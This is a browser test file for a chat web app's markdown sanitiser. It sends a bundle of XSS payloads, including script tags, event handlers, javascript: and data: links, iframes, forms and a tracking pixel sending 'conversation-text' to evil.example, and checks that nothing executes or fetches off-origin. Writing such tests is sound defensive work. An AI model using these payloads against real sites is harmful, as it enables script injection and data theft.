import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ensureWebBuilt } from '../../web/ensure-built.js';
import type { TestServer } from '../fixtures/server.js';
import { haveChromium, launchChromium, openPage, screenshot, sendMessage, startScriptedServer, type BrowserSession } from './harness.js';

/**
 * Model output is untrusted. The scripted model echoes the user's message, so
 * sending an attack makes the *reply* carry it: it must render inert. Each
 * payload tries to set `window.__xss` (or to reach evil.example); the flag
 * must stay unset and no request may leave for another origin.
 *
 * The suite runs twice: with the page's real CSP, and with the CSP bypassed,
 * so the sanitiser alone is shown to hold (the CSP is the second wall, not
 * the only one).
 */

const attacks = [
  'Attack follows.',
  '',
  '<script>window.__xss = "script"</script>',
  '',
  '<img src="https://evil.example/x.png" onerror="window.__xss = \'img-onerror\'">',
  '',
  '<img src=x onerror=window.__xss=1>',
  '',
  '[click for a prize](javascript:window.__xss=%22link%22)',
  '',
  '[tabbed](java\tscript:window.__xss="tab")',
  '',
  '<a href="javascript:window.__xss=\'raw-a\'">raw anchor</a>',
  '',
  '<svg onload="window.__xss=\'svg\'"><script>window.__xss="svg-script"</script></svg>',
  '',
  '<iframe src="https://evil.example/frame" onload="window.__xss=\'iframe\'"></iframe>',
  '',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '',
  '![tracking pixel](https://evil.example/pixel.png?secret=conversation-text)',
  '',
  '![svg data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=)',
  '',
  '[data html](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '',
  '<form action="https://evil.example/steal"><input name="q"><button>Go</button></form>',
  '',
  '<style>body { background: url("https://evil.example/bg.png") }</style>',
  '',
  '<div style="background:url(https://evil.example/div.png)" onclick="window.__xss=\'div\'">styled div</div>',
  '',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e.swf">',
  '',
  '<math><mtext><img src=x onerror="window.__xss=\'mathml\'"></mtext></math>',
  '',
  'Math with a link: $\\href{javascript:window.__xss=1}{click}$ and $\\url{https://evil.example}$',
  '',
  '```html',
  '<script>window.__xss = "in a code block, shown as text"</script>',
  '```',
  '',
  'Done.',
].join('\n');

async function checkInert(page: Page, foreignRequests: readonly string[]): Promise<void> {
  const reply = page.locator('article.from-assistant .markdown').last();
  await reply.getByText('Done.').waitFor();
  // Let lazy parts (highlighting, KaTeX) run, then try the links.
  await reply.locator('code .hljs-tag, code .hljs-name').first().waitFor();
  await reply.locator('.math .katex').first().waitFor();
  for (const name of ['click for a prize', 'tabbed', 'raw anchor', 'data html', 'styled div']) {
    const target = reply.getByText(name).first();
    if (await target.count()) await target.click({ force: true, noWaitAfter: true }).catch(() => undefined);
  }
  await reply.locator('.katex').first().click({ force: true }).catch(() => undefined);
  await page.waitForTimeout(300);
  expect(await page.evaluate<unknown>('window.__xss')).toBeUndefined();
  expect(foreignRequests).toEqual([]);
  const dangerous = await page.evaluate<string[]>(`(() => {
    const root = document.querySelectorAll('article.from-assistant .markdown');
    const reply = root[root.length - 1];
    const found = [];
    for (const el of reply.querySelectorAll('*')) {
      if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'FORM', 'STYLE', 'svg', 'INPUT', 'BUTTON'].includes(el.tagName) && !el.closest('.code-head') && !el.closest('.katex')) found.push(el.tagName);
      for (const attr of el.attributes) {
        if (/^on/i.test(attr.name)) found.push(el.tagName + ' ' + attr.name);
        if (attr.name === 'style' && !el.closest('.katex')) found.push(el.tagName + ' style');
        if ((attr.name === 'href' || attr.name === 'src') && !/^(https?:|mailto:|data:image\\/(png|gif|jpe?g|webp);)/i.test(attr.value)) found.push(el.tagName + ' ' + attr.name + '=' + attr.value);
      }
      if (el.tagName === 'IMG' && !/^data:image\\/(png|gif|jpe?g|webp);/i.test(el.getAttribute('src') || '')) found.push('IMG ' + el.getAttribute('src'));
    }
    return found;
  })()`);
  expect(dangerous).toEqual([]);
  // The remote image is a link naming its host, not a fetch.
  const image = reply.locator('a.image-link', { hasText: 'tracking pixel' });
  expect(await image.textContent()).toContain('evil.example');
  expect(await image.getAttribute('href')).toBe('https://evil.example/pixel.png?secret=conversation-text');
  // Raw HTML shows as text; the code block shows its script as text.
  expect(await reply.textContent()).toContain('<script>window.__xss = "script"</script>');
  expect(await reply.locator('code').filter({ hasText: 'in a code block, shown as text' }).count()).toBe(1);
}

describe.skipIf(!haveChromium)('untrusted model output in the chat page', () => {
  let server: TestServer;
  let session: BrowserSession;

  beforeAll(async () => {
    await ensureWebBuilt();
    server = await startScriptedServer({ scriptedDelayMs: 1 });
    session = await launchChromium();
  }, 120_000);

  afterAll(async () => {
    await session?.close();
    await server?.stop();
  });

  it('runs no script and fetches nothing from other origins, under the real CSP', async () => {
    const probe = await openPage(session.browser, server.url);
    await probe.page.goto(server.url);
    await sendMessage(probe.page, attacks);
    await checkInert(probe.page, probe.foreignRequests);
    await screenshot(probe.page, 'xss');
    expect(probe.errors).toEqual([]);
    // The sanitiser left nothing for the CSP to block (KaTeX sets its styles through the CSSOM).
    expect(probe.cspViolations).toEqual([]);
    await probe.context.close();
  });

  it('stays inert with the CSP bypassed: the sanitiser holds on its own', async () => {
    const probe = await openPage(session.browser, server.url, { bypassCSP: true });
    await probe.page.goto(server.url);
    await sendMessage(probe.page, attacks);
    await checkInert(probe.page, probe.foreignRequests);
    expect(probe.errors).toEqual([]);
    await probe.context.close();
  });
});
